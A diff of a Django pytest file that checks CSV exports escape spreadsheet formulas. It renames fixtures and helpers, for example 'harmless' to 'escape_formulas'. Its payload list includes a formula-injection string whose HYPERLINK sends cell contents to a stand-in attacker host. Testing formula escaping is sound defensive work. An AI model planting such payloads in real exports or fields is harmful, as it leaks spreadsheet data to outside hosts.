@@ -7,17 +7,17 @@ import re
 import pytest
 from django.test import Client
 
-from tests.cast import Cast
+from tests import users as people
 from tests.resources import samples
-from tests.shelf import Shelf, identity
-from workflows_ui.kit.export_file import harmless
-from workflows_ui.kit.resource import Resource
-from workflows_ui.models import Flavour, Workspace
-from workflows_ui.resources import RESOURCES, table_files
-from workflows_ui.services import audit
-from workflows_ui.services.audit import Actor
-
-pytestmark = pytest.mark.once
+from tests.stub_engine import StubEngine, identity
+from tests.users import Users
+from workflows_ui.audit.services import audit_log
+from workflows_ui.audit.services.audit_log import Actor
+from workflows_ui.members.models import Flavour
+from workflows_ui.resource_admin.export import escape_formulas
+from workflows_ui.resource_admin.resource import Resource
+from workflows_ui.resources import RESOURCES
+from workflows_ui.resources.tables import files as table_files
 
 FORMULAS = [
     '=HYPERLINK("http://evil.invalid/?"&A1,"Click")',
@@ -49,29 +49,33 @@ def running(content: bytes) -> list[str]:
 @pytest.mark.parametrize("formula", FORMULAS, ids=repr)
 def test_no_text_stays_a_formula(formula: str) -> None:
     file = io.StringIO()
-    csv.writer(file).writerow([harmless(formula)])
+    csv.writer(file).writerow([escape_formulas(formula)])
     assert running(file.getvalue().encode()) == []
     made = table_files.content("csv", {"name": "x", "fields": [formula], "rows": [{formula: formula}]})
     assert running(made.encode()) == []
 
 
 @pytest.mark.parametrize("formula", FORMULAS, ids=repr)
-def test_no_name_becomes_a_formula_in_any_file(cast: Cast, owner: Client, shelf: Shelf, formula: str) -> None:
+def test_no_name_becomes_a_formula_in_any_file(
+    users: Users, owner: Client, stub_engine: StubEngine, formula: str
+) -> None:
     here: Resource
     for here in RESOURCES:
         sample = samples.of(here)
         imbrace = sample.flavour == Flavour.IMBRACE
-        flavour, address = (Flavour.IMBRACE, shelf.url) if imbrace else (Flavour.ACTIVEPIECES, f"{shelf.url}/api")
-        Workspace.objects.filter(pk=cast.workspace.pk).update(flavour=flavour, address=address)
-        sample.fill(shelf, formula)
+        flavour, address = (
+            (Flavour.IMBRACE, stub_engine.url) if imbrace else (Flavour.ACTIVEPIECES, f"{stub_engine.url}/api")
+        )
+        people.move(users.workspace, flavour=flavour, address=address)
+        sample.fill(stub_engine, formula)
         answer = owner.get(f"{here.url('sales')}export/csv/")
         if answer.status_code == 404:
             answer = owner.get(here.url("sales").replace("/w/sales/", "/w/sales/export/") + "csv/")
         assert running(answer.content) == [], here.name
-    audit.record(
-        Actor(cast.owner, address=None),
+    audit_log.record(
+        Actor(users.owner, address=None),
         "flows.rename",
-        workspace=cast.workspace,
+        workspace=users.workspace,
         object_type="flows",
         object_id=identity(1),
         object_name=formula,
